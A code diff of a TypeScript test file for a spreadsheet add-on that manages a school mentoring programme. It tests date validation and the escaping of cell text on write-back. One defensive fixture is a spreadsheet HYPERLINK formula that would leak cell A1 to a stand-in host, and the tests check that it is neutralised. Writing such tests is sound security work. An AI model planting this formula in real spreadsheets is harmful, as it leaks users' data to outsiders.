@@ -1,5 +1,5 @@
 import { describe, expect, it } from 'vitest';
-import { Mentee, Mentor, Pair, ProgrammeDocument } from '../../../shared/model';
+import { isYoungSpecialist, Mentee, Mentor, Pair, ProgrammeDocument } from '../../../shared/model';
 import {
   type CellValue,
   DOCUMENTS_SHEET,
@@ -13,8 +13,12 @@ import {
   planWrite,
   readTable,
   SHEETS,
+  toSheetValue,
 } from '../../../shared/sheets';
 import { sampleRows } from '../../helpers/sample';
+
+/** The sample school's day (its consent dates are in September 2025). */
+const TODAY = '2025-11-20';
 
 describe('sheet dictionaries', () => {
   it('every sheet has a unique title, unique fields and no header that two columns share', () => {
@@ -31,7 +35,7 @@ describe('sheet dictionaries', () => {
 
 describe('reading the sample school', () => {
   it('reads the mentor bank, reporting the one bad row with its row and column', () => {
-    const res = readTable(sampleRows('mentors'), MENTORS_SHEET, Mentor);
+    const res = readTable(sampleRows('mentors'), MENTORS_SHEET, Mentor, { today: TODAY });
     expect(res.fatal).toBeNull();
     expect(res.rows).toHaveLength(19);
     expect(res.issues.map(formatIssue)).toEqual([
@@ -47,7 +51,7 @@ describe('reading the sample school', () => {
   });
 
   it('reads the mentee bank under variant headers, with every mistake named and the rest kept', () => {
-    const res = readTable(sampleRows('mentees'), MENTEES_SHEET, Mentee);
+    const res = readTable(sampleRows('mentees'), MENTEES_SHEET, Mentee, { today: TODAY });
     expect(res.fatal).toBeNull();
     expect(res.issues.map(formatIssue)).toEqual([
       'Строка 17, столбец «Стаж»: ожидается число, а не «три года»',
@@ -72,7 +76,7 @@ describe('reading the sample school', () => {
   });
 
   it('reads pairs with a group and documents', () => {
-    const pairs = readTable(sampleRows('pairs'), PAIRS_SHEET, Pair);
+    const pairs = readTable(sampleRows('pairs'), PAIRS_SHEET, Pair, { today: TODAY });
     expect(pairs.issues).toEqual([]);
     expect(pairs.rows.map((r) => r.record.menteeIds)).toEqual([
       ['NV-0011'],
@@ -80,7 +84,7 @@ describe('reading the sample school', () => {
       ['NV-0017'],
     ]);
     expect(pairs.rows.map((r) => r.record.status)).toEqual(['completed', 'active', 'terminated']);
-    const docs = readTable(sampleRows('documents'), DOCUMENTS_SHEET, ProgrammeDocument);
+    const docs = readTable(sampleRows('documents'), DOCUMENTS_SHEET, ProgrammeDocument, { today: TODAY });
     expect(docs.issues).toEqual([]);
     expect(docs.rows.map((r) => r.record.kind)).toEqual([
       'order-introduction',
@@ -101,7 +105,7 @@ describe('messy sheets', () => {
       ['e-mail', 'СОГЛАСИЕ', 'ф. и. о.', 'Моя заметка', 'стаж', 'id'],
       ['a@b.ru', 'да', 'Ёлкина Нина', 'своё', '3,5', 'NS-0007'],
     ];
-    const res = readTable(values, MENTORS_SHEET, Mentor);
+    const res = readTable(values, MENTORS_SHEET, Mentor, { today: TODAY });
     expect(res.issues).toEqual([]);
     expect(res.rows[0]!.record).toMatchObject({
       id: 'NS-0007',
@@ -120,6 +124,7 @@ describe('messy sheets', () => {
       ],
       MENTORS_SHEET,
       Mentor,
+      { today: TODAY },
     );
     expect(res.rows).toEqual([]);
     expect(res.fatal).toBe(
@@ -133,7 +138,7 @@ describe('messy sheets', () => {
       ['NS-1', 'Иванов И.И.', 'Школа № 1', '', 'да', '', ''],
       ['NS-2', 'Петров П.П.', '', '', 'да', '', ''],
     ];
-    const res = readTable(values, MENTORS_SHEET, Mentor);
+    const res = readTable(values, MENTORS_SHEET, Mentor, { today: TODAY });
     expect(res.rows.map((r) => r.record.organisation)).toEqual(['Школа № 1', 'Школа № 1']);
   });
 
@@ -147,7 +152,7 @@ describe('messy sheets', () => {
       ['NS-4', 'Орлова О.О.', '', 2, true, '', ''],
       ['', '', '', '', '', '', ''],
     ];
-    const res = readTable(values, MENTORS_SHEET, Mentor);
+    const res = readTable(values, MENTORS_SHEET, Mentor, { today: TODAY });
     expect(res.issues.map(formatIssue)).toEqual([
       'Строка 2, столбец «Стаж, лет»: ожидается число, а не «много»',
       'Строка 3, столбец «Согласие на обработку ПД»: ожидается «да» или «нет», а не «может быть»',
@@ -166,6 +171,7 @@ describe('messy sheets', () => {
       ],
       MENTORS_SHEET,
       Mentor,
+      { today: TODAY },
     );
     expect(res.issues.map(formatIssue)).toEqual([
       'Строка 2, столбец «Готов взять наставляемых»: число наставляемых не может быть отрицательным',
@@ -178,9 +184,40 @@ describe('messy sheets', () => {
       ['ФИО', 'E-mail', 'Статус'],
       ['Иванов', '', ''],
     ];
-    const res = readTable(values, MENTORS_SHEET, Mentor);
+    const res = readTable(values, MENTORS_SHEET, Mentor, { today: TODAY });
     expect(res.header!.headerRow).toBe(2);
     expect(res.rows.map((r) => r.row)).toEqual([3]);
+  });
+});
+
+describe('dates that cannot be right (issue 14, defect 6)', () => {
+  const values: CellValue[][] = [
+    ['ФИО', 'Дата рождения', 'Стаж, лет', 'Дата согласия'],
+    ['Андреева Полина', '14.03.65', 1, '01.09.25'],
+    ['Борисов Максим', '14.03.2030', 1, ''],
+    ['Васильева Кристина', new Date(2030, 2, 14), 1, ''],
+    ['Григорьева Алина', '31.02.2001', 1, ''],
+    ['Дмитриев Артём', '14.13.2001', 1, ''],
+    ['Егорова Софья', '01.01.2023', 1, ''],
+    ['Жукова Мария', '01.01.1901', 1, ''],
+    ['Зайцев Кирилл', '05.04.2002', 1, '31.09.2025'],
+  ];
+
+  it('reads a two-digit birth year into the past, and refuses impossible dates with the row and the column', () => {
+    const res = readTable(values, MENTEES_SHEET, Mentee, { today: TODAY });
+    expect(res.issues.map(formatIssue)).toEqual([
+      'Строка 3, столбец «Дата рождения»: дата рождения «14.03.2030» ещё не наступила; проверьте год',
+      'Строка 4, столбец «Дата рождения»: дата рождения «14.03.2030» ещё не наступила; проверьте год',
+      'Строка 5, столбец «Дата рождения»: нет такой даты: «31.02.2001»',
+      'Строка 6, столбец «Дата рождения»: нет такой даты: «14.13.2001»',
+      'Строка 7, столбец «Дата рождения»: по дате рождения «01.01.2023» человеку меньше 5 лет; проверьте год',
+      'Строка 8, столбец «Дата рождения»: по дате рождения «01.01.1901» человеку больше 100 лет; проверьте год',
+      'Строка 9, столбец «Дата согласия»: нет такой даты: «31.09.2025»',
+    ]);
+    expect(res.rows.map((r) => [r.row, r.record.birthDate, r.record.consentDate])).toEqual([
+      [2, '1965-03-14', '2025-09-01'],
+    ]);
+    expect(isYoungSpecialist(res.rows[0]!.record, TODAY)).toBe(false);
   });
 });
 
@@ -192,7 +229,7 @@ describe('writing back', () => {
   ];
 
   it("writes the add-on's own columns only, in contiguous blocks, leaving the curator's columns alone", () => {
-    const res = readTable(values, MENTORS_SHEET, Mentor);
+    const res = readTable(values, MENTORS_SHEET, Mentor, { today: TODAY });
     const petrov = res.rows.find((r) => r.row === 3)!;
     expect(petrov.newId).toBe(true);
     const plan = planWrite(values, res.header!, [{ row: 3, record: { ...petrov.record, status: 'paused' } }]);
@@ -204,7 +241,7 @@ describe('writing back', () => {
   });
 
   it('appends new people after the last row with a new stable ID', () => {
-    const res = readTable(values, MENTORS_SHEET, Mentor);
+    const res = readTable(values, MENTORS_SHEET, Mentor, { today: TODAY });
     const plan = planWrite(values, res.header!, [
       { row: null, record: { id: 'NS-0003', fullName: 'Новая Н.Н.' } },
     ]);
@@ -213,13 +250,51 @@ describe('writing back', () => {
     expect(plan.blocks[1]).toEqual({ row: 4, column: 3, values: [['NS-0003', '']] });
   });
 
-  it('never lets user text run as a formula', () => {
-    const text = MENTEES_SHEET.columns.find((c) => c.field === 'requests')!;
-    expect(encodeCell(['=HYPERLINK("x")', 'норма'], text)).toBe(`'=HYPERLINK("x"), норма`);
-    const name = MENTEES_SHEET.columns.find((c) => c.field === 'fullName')!;
-    expect(encodeCell('+7 900', name)).toBe("'+7 900");
-    expect(encodeCell('@alice', name)).toBe("'@alice");
-    expect(encodeCell('Иванов', name)).toBe('Иванов');
+  it('never lets user text run as a formula: the one sheet encoder', () => {
+    expect(toSheetValue('=HYPERLINK("x"), норма')).toBe(`'=HYPERLINK("x"), норма`);
+    expect(toSheetValue('+7 900')).toBe("'+7 900");
+    expect(toSheetValue('-5 дней')).toBe("'-5 дней");
+    expect(toSheetValue('@alice')).toBe("'@alice");
+    expect(toSheetValue('\tвкладка')).toBe("'\tвкладка");
+    expect(toSheetValue('\rстрока')).toBe("'\rстрока");
+    // Sheets eats one leading apostrophe: a text that starts with one keeps it only behind a second.
+    expect(toSheetValue("'цитата")).toBe("''цитата");
+    expect(toSheetValue('Иванов')).toBe('Иванов');
+    expect(toSheetValue('')).toBe('');
+    expect(toSheetValue(null)).toBe('');
+    // Numbers, booleans and dates stay typed, negative numbers included.
+    expect(toSheetValue(-5)).toBe(-5);
+    expect(toSheetValue(false)).toBe(false);
+    const d = new Date(2025, 8, 1);
+    expect(toSheetValue(d)).toBe(d);
+  });
+
+  it('a block spanning a row writes that row back neutralised (issue 14, defect 3)', () => {
+    // Row 3 was written as «'=HYPERLINK(…)» and «'+7 900…»; getValues gives the text without the apostrophe.
+    const formula = '=HYPERLINK("http://x.example/?"&A1;"y")';
+    const sheet: CellValue[][] = [
+      ['ФИО', 'Организация', 'ID'],
+      ['Иванов И.И.', 'СОШ № 7', 'NS-0001'],
+      [formula, '+7 900 123-45-67', 'NS-0002'],
+      ['Петров П.П.', 'СОШ № 7', 'NS-0003'],
+    ];
+    const res = readTable(sheet, MENTORS_SHEET, Mentor, { today: TODAY });
+    const row = (n: number) => res.rows.find((r) => r.row === n)!;
+    const plan = planWrite(sheet, res.header!, [
+      { row: 2, record: { ...row(2).record, organisation: 'СОШ № 8' } },
+      { row: 4, record: { ...row(4).record, organisation: 'СОШ № 8' } },
+    ]);
+    expect(plan.blocks).toEqual([
+      {
+        row: 2,
+        column: 1,
+        values: [
+          ['Иванов И.И.', 'СОШ № 8', 'NS-0001'],
+          [`'${formula}`, "'+7 900 123-45-67", 'NS-0002'],
+          ['Петров П.П.', 'СОШ № 8', 'NS-0003'],
+        ],
+      },
+    ]);
   });
 
   it('writes booleans as да/нет, enums as labels and dates as Date cells or text', () => {
